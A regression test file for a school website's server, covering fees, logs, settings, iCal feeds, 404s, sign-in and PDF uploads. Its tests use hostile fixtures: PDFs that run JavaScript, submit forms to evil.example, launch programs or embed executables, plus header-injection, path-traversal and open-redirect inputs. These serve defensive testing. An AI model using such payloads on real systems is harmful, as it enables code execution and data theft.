import { Writable } from 'node:stream';
import zlib from 'node:zlib';
import { TRPCError } from '@trpc/server';
import pino from 'pino';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { LOG_OPTIONS } from '../../src/server/app';
import { assemblePdf } from '../../src/server/lib/pdf';
import { PDF_ACTIVE_CONTENT_MESSAGE } from '../../src/shared/schemas/admin-content';
import { pdfForm } from '../factories/disclosure';
import { attachFile, createNoticeRow, makePdfBytes } from '../factories/notices';
import { seededAcademicYear } from '../helpers/seeded-year';
import { fieldErrorsOf, makeTestApp, type TestApp } from '../helpers/test-app';

// Defects found by trying the product from outside, each with the test that failed before its fix.

const ADMIN = { session: { adminId: 1, username: 'admin', role: 'owner' as const, twoFactor: true } };
let t: TestApp;
beforeAll(async () => {
  t = await makeTestApp();
});
afterAll(async () => {
  await t.close();
});

describe('a fee whose amount the office advises', () => {
  it('is saved with an empty amount, created and updated, and the Fees page says to ask', async () => {
    const fees = t.caller(ADMIN).admin.feeItems;
    // The seeded year: the Fees page shows the heads of the academic-year setting's year.
    const academicYear = seededAcademicYear();
    const fee = await fees.create({
      academicYear,
      name: 'Uniform',
      amount: '',
      amountNote: 'Ask the office',
      due: '',
      sortOrder: 1,
    });
    expect(fee).toMatchObject({ name: 'Uniform', amount: null, amountNote: 'Ask the office' });
    const changed = await fees.update({
      id: fee.id,
      academicYear,
      name: 'Uniform (two sets)',
      amount: '',
      amountNote: 'Ask the office',
      due: '',
      sortOrder: 1,
    });
    expect(changed).toMatchObject({ name: 'Uniform (two sets)', amount: null });
    const page = await t.app.inject({ method: 'GET', url: '/fees' });
    expect(page.body).toContain('Uniform (two sets)');
  });
});

describe('the log', () => {
  it('writes a procedure error with its cause, whatever the line carries beside it', () => {
    const lines: string[] = [];
    const sink = new Writable({
      write(chunk, _encoding, done) {
        lines.push(String(chunk));
        done();
      },
    });
    const log = pino({ level: 'info', ...LOG_OPTIONS }, sink);
    const error = new TRPCError({ code: 'INTERNAL_SERVER_ERROR', cause: new TypeError('the real cause') });
    // What the API's error hook logs: the error, the procedure, and whether it came over HTTP.
    expect(() => log.error({ err: error, procedure: 'admin.feeItems.create', req: true }, 'tRPC error')).not.toThrow();
    expect(() => log.info({ req: { method: 'GET' } }, 'request completed')).not.toThrow();
    expect(lines.join('')).toContain('admin.feeItems.create');
    expect(lines.join('')).toContain('the real cause');
  });
});

describe('one-line settings', () => {
  it('refuse a line break with a message beside the field, and store nothing', async () => {
    const before = (await t.caller().site.settings()).schoolName;
    expect(
      await fieldErrorsOf(t.caller(ADMIN).admin.settings.save({ schoolName: 'Probe School\r\nX-INJECT:1' })),
    ).toEqual({
      schoolName: 'School name must be on one line',
    });
    expect(await fieldErrorsOf(t.caller(ADMIN).admin.settings.save({ tagline: 'Learning\u0007 together' }))).toEqual({
      tagline: 'Tagline must be on one line',
    });
    expect(await fieldErrorsOf(t.caller(ADMIN).admin.settings.save({ phone: '+91 724 000\n0000' }))).toEqual({
      phone: 'Phone must be on one line',
    });
    expect((await t.caller().site.settings()).schoolName).toBe(before);
    const feed = await t.app.inject({ method: 'GET', url: '/calendar.ics' });
    expect(feed.body).not.toMatch(/^X-INJECT/m);
  });

  it('keep an address on several lines', async () => {
    const address = 'Plot 4, Civil Lines\nAkola 444001';
    const saved = await t.caller(ADMIN).admin.settings.save({ addressIndia: address });
    expect(saved.addressIndia).toBe(address);
  });
});

describe('the iCal feeds', () => {
  it('end every content line with CRLF, the last one too, and escape the calendar’s name', async () => {
    await t.caller(ADMIN).admin.settings.save({ schoolName: 'Al Mahmood School, Akola; Main' });
    const urls = ['/calendar.ics', '/calendar.ics?category=exam'];
    const feed = await t.app.inject({ method: 'GET', url: '/calendar.ics' });
    const uid = /^UID:([^@\r]+)@/m.exec(feed.body)?.[1];
    if (uid) urls.push(`/calendar/${uid}.ics`);
    expect(urls).toHaveLength(3);
    for (const url of urls) {
      const body = (await t.app.inject({ method: 'GET', url, headers: { 'accept-encoding': 'identity' } })).body;
      expect(body.endsWith('END:VCALENDAR\r\n'), url).toBe(true);
      expect(body.replace(/\r\n/g, ''), url).not.toMatch(/[\r\n]/);
    }
    expect(feed.body).toContain('X-WR-CALNAME:Al Mahmood School\\, Akola\\; Main\r\n');
  });
});

describe('addresses that name no page', () => {
  it('answer 404 with the not-found page, however they are spelt', async () => {
    for (const url of [
      '/notices/School',
      '/mandatory-public-disclosure/x.y',
      '/notices/x/files/%2e%2e/%2e%2e/school.db',
      '/notices/no-such-notice',
      '/about/x',
    ]) {
      const res = await t.app.inject({ method: 'GET', url });
      expect(res.statusCode, url).toBe(404);
      expect(res.body, url).toContain('Page not found');
    }
    // The pages themselves still answer.
    for (const url of ['/notices', '/mandatory-public-disclosure', '/calendar', '/tc-verification', '/about'])
      expect((await t.app.inject({ method: 'GET', url })).statusCode, url).toBe(200);
  });
});

/** A one-page PDF whose catalog carries `catalogExtra`, with `more` objects after the page. */
function pdfWith(catalogExtra: string, more: string[] = []): Buffer {
  return assemblePdf([
    `<< /Type /Catalog /Pages 2 0 R${catalogExtra} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>',
    ...more,
  ]);
}

/** An object stream holding `dictionary`, compressed as a PDF writer does. */
function packed(dictionary: string): string {
  const body = zlib.deflateSync(Buffer.from(`5 0 ${dictionary}`, 'latin1')).toString('latin1');
  return `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${body.length} >>\nstream\n${body}\nendstream`;
}

describe('PDFs that would run something', () => {
  const ACTIVE = {
    'JavaScript on opening': pdfWith(' /OpenAction << /S /JavaScript /JS (app.alert(1)) >>'),
    'a form sent to another site': pdfWith(' /OpenAction << /S /SubmitForm /F (https://evil.example/) >>'),
    'a program launched': pdfWith(' /OpenAction << /S /Launch /F (calc.exe) >>'),
    'an embedded file': pdfWith(' /Names << /EmbeddedFiles 4 0 R >>', ['<< /Names [(a.exe) 5 0 R] >>']),
    'a name spelt with #xx': pdfWith(' /OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'),
    'JavaScript inside a compressed object stream': pdfWith(' /OpenAction 5 0 R', [
      packed('<< /S /JavaScript /JS (this.submitForm("https://evil.example")) >>'),
    ]),
  };

  it('are refused beside a notice’s file field (the disclosure’s documents and the brochure take the same check), and nothing is stored', async () => {
    const notice = createNoticeRow(t.app.svc, { title: 'Scripted attachment' });
    for (const [what, bytes] of Object.entries(ACTIVE)) {
      await expect(attachFile(t.app.svc, notice.id, bytes, 'x.pdf'), what).rejects.toThrow(PDF_ACTIVE_CONTENT_MESSAGE);
    }
    const form = pdfForm({ id: notice.id }, { name: 'circular.pdf', bytes: ACTIVE['JavaScript on opening'] });
    expect(await fieldErrorsOf(t.caller(ADMIN).admin.notices.addAttachment(form))).toEqual({
      file: PDF_ACTIVE_CONTENT_MESSAGE,
    });
    const stored = (await t.caller(ADMIN).admin.notices.list()).find((n) => n.id === notice.id);
    expect(stored?.attachments).toEqual([]);
  });

  it('are told apart from a plain PDF with a link, which is accepted and served sandboxed', async () => {
    const notice = createNoticeRow(t.app.svc, { title: 'Plain attachment' });
    const linked = pdfWith(' /OpenAction [3 0 R /Fit]', [
      '<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://cbse.gov.in/) >> >>',
    ]);
    await attachFile(t.app.svc, notice.id, linked, 'linked.pdf');
    const withFiles = await attachFile(t.app.svc, notice.id, makePdfBytes(), 'timetable.pdf');
    expect(withFiles.attachments.map((a) => a.name)).toEqual(['linked.pdf', 'timetable.pdf']);
    const res = await t.app.inject({
      method: 'GET',
      url: `/notices/${notice.slug}/files/${withFiles.attachments[1]?.id}`,
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('application/pdf');
    expect(res.headers['content-security-policy']).toMatch(/(^|;\s*)sandbox(;|$)/);
    expect(res.headers['x-content-type-options']).toBe('nosniff');
  });
});

describe('the authentication log', () => {
  it('gives signing out its outcome, as every other authentication event has', async () => {
    const events: Record<string, unknown>[] = [];
    const record = (obj: unknown) => {
      if (typeof obj === 'object' && obj) events.push(obj as Record<string, unknown>);
    };
    const saved = t.app.svc.log;
    t.app.svc.log = { info: record, warn: record, error: record };
    try {
      await t.caller(ADMIN).admin.logout();
    } finally {
      t.app.svc.log = saved;
    }
    expect(events).toContainEqual(
      expect.objectContaining({ event: 'sign-out', outcome: 'success', username: 'admin' }),
    );
  });
});

describe('an address that cannot be decoded', () => {
  it('is refused with 400 and the security headers every other answer has', async () => {
    const plain = await t.app.inject({ method: 'GET', url: '/robots.txt' });
    for (const url of ['/%E0%A4%A', '/notices/%', '/trpc/%ZZ']) {
      const res = await t.app.inject({ method: 'GET', url });
      expect(res.statusCode, url).toBe(400);
      for (const header of ['content-security-policy', 'x-content-type-options', 'referrer-policy', 'x-frame-options'])
        expect(res.headers[header], `${url} ${header}`).toBe(plain.headers[header]);
      expect(res.headers['x-content-type-options'], url).toBe('nosniff');
      expect(res.headers['content-security-policy'], url).toContain("default-src 'self'");
      expect(res.body, url).not.toContain(url);
    }
  });
});

describe('the sign-in form without JavaScript', () => {
  const USER = 'office-admin';
  const PASSWORD = 'correct horse battery staple';
  let s: TestApp;
  beforeAll(async () => {
    s = await makeTestApp({ ADMIN_USERNAME: USER, ADMIN_PASSWORD: PASSWORD });
  });
  afterAll(async () => {
    await s.close();
  });
  const post = (fields: Record<string, string>, query = '') =>
    s.app.inject({
      method: 'POST',
      url: `/admin/login${query}`,
      headers: { 'content-type': 'application/x-www-form-urlencoded' },
      payload: new URLSearchParams(fields).toString(),
    });

  it('posts, never sends the password in an address, and signs in as the script does', async () => {
    const page = await s.app.inject({ method: 'GET', url: '/admin/login' });
    const form = /<form[^>]*>/.exec(page.body)?.[0] ?? '';
    expect(form).toContain('method="post"');
    expect(form).toContain('action="/admin/login"');

    const ok = await post({ username: USER, password: PASSWORD }, '?next=%2Fadmin%2Fcontacts');
    expect(ok.statusCode).toBe(303);
    expect(ok.headers.location).toBe('/admin/contacts');
    const cookie = String(ok.headers['set-cookie']);
    expect(cookie).toMatch(/^sid=[^;]+;.*HttpOnly/);
    const me = await s.app.inject({
      method: 'POST',
      url: '/trpc/admin.me',
      headers: { cookie: cookie.split(';')[0] ?? '', 'content-type': 'application/json' },
      payload: '{}',
    });
    expect(me.body).toContain(USER);

    // Anywhere else than a dashboard address is the overview.
    expect((await post({ username: USER, password: PASSWORD }, '?next=https://evil.example/')).headers.location).toBe(
      '/admin/dashboard',
    );
  });

  it('comes back to the page with why it was refused, never with what was typed, within the same limits', async () => {
    const refused = await post({ username: USER, password: 'a wrong guess' });
    expect(refused.statusCode).toBe(303);
    expect(refused.headers.location).toBe('/admin/login?failed=invalid');
    expect(String(refused.headers['set-cookie'] ?? '')).toBe('');
    const again = await s.app.inject({ method: 'GET', url: refused.headers.location as string });
    expect(again.body).toContain('Invalid username or password');
    expect(again.body).not.toContain('a wrong guess');

    let last = refused;
    for (let i = 0; i < 10 && last.headers.location === '/admin/login?failed=invalid'; i += 1)
      last = await post({ username: USER, password: `guess ${i}` });
    expect(last.headers.location).toMatch(/^\/admin\/login\?failed=locked-\d+$/);
    const locked = await s.app.inject({ method: 'GET', url: last.headers.location as string });
    expect(locked.body).toMatch(/Too many failed sign-in attempts. Please try again in \d+ minutes?\./);
    // Locked for the right password too, as through the API.
    expect((await post({ username: USER, password: PASSWORD })).headers.location).toMatch(/failed=locked/);
  });
});

describe('the footer', () => {
  it('gives the copyright from the founding year to this year', async () => {
    const home = await t.app.inject({ method: 'GET', url: '/about' });
    expect(home.body).toContain(`© 2010–${new Date().getFullYear()} `);
    expect(home.body).not.toContain('© 2024 ');
  });
});
